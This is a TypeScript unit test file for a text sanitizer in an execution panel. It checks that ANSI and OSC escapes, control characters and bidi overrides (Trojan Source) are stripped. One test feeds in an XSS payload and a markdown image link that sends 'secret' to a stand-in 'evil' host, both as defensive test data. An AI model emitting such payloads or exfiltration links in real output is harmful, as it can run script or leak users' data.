import * as assert from 'node:assert/strict';
import { displayBlock, displayText } from '../../../src/protocol/sanitize';

describe('text shown in the execution panel', () => {
  it('drops ANSI colours, OSC sequences (hyperlinks, shell-integration marks) and control characters', () => {
    assert.equal(displayText('\u001b[31merror\u001b[0m: bad'), 'error: bad');
    assert.equal(displayText('\u001b]633;C\u0007out\u001b]8;;https://x\u001b\\link\u001b]8;;\u001b\\'), 'outlink');
    assert.equal(displayText('a\u0000b\u0007c\u007fd\u0085e'), 'abcde');
    assert.equal(displayText('tab\tkept'), 'tab\tkept');
  });

  it('removes bidi overrides that would reorder what is read (Trojan Source)', () => {
    assert.equal(displayText('if (admin) \u202e{ }\u2066x\u2069'), 'if (admin) { }x');
  });

  it('keeps markup as plain characters (the panel only ever sets textContent)', () => {
    const hostile = '<img src=x onerror=alert(1)><script>alert(2)</script>![x](https://evil/?d=secret)';
    assert.equal(displayText(hostile), hostile);
  });

  it('caps the length and keeps lines in blocks', () => {
    assert.equal(displayText('x'.repeat(50), 10), `${'x'.repeat(9)}…`);
    assert.equal(displayBlock('one\r\ntwo\n\u001b[1mthree\u001b[0m'), 'one\ntwo\nthree');
    assert.equal(displayText('one\ntwo'), 'one two');
  });
});
